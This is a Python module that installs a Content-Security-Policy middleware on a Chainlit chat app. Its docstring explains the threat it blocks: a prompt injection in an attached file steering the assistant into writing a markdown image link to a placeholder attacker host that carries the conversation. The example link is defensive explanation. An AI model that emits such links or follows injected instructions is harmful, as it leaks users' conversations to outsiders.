"""A Content-Security-Policy on the chat's HTML pages: what a page may load and from where.

Chainlit 2.12 sets none, and renders markdown in replies and in user messages
(``user_message_markdown``): a reply steered by a prompt injection in an attached
file could write ``![x](https://attacker.example/?leak=<the chat>)`` and the browser
would fetch it, sending the conversation out.  The policy keeps images, media and
connections to the chat's own origin (its socket, ws:/wss: of the same host, included);
it does not touch scripts, styles or fonts, which Chainlit's page needs as they are
(an inline script, its theme and fonts).  frame-ancestors keeps other sites from
framing the chat; object-src and base-uri close two old ways around a policy.
"""

from __future__ import annotations

import re

from app.web.asgi_headers import add_to_html

POLICY = ("img-src 'self' data: blob:; media-src 'self' data: blob:; frame-ancestors 'self'; "
          "object-src 'none'; base-uri 'self'; connect-src 'self'")
# A Host header is the browser's own; anything else (a forged one) gets no socket source.
HOST = re.compile(r"[A-Za-z0-9.-]+(:[0-9]{1,5})?|\[[0-9A-Fa-f:.]+\](:[0-9]{1,5})?")


def policy(host: bytes) -> bytes:
    name = host.decode("latin-1")
    sockets = f" ws://{name} wss://{name}" if HOST.fullmatch(name) else ""
    return (POLICY + sockets).encode()


class PagePolicy:
    """Pure ASGI middleware: the policy on every HTML page this process serves."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        host = dict(scope["headers"]).get(b"host", b"")
        await self.app(scope, receive, add_to_html(send, b"content-security-policy", policy(host)))


def install() -> None:
    from chainlit.server import app
    app.add_middleware(PagePolicy)
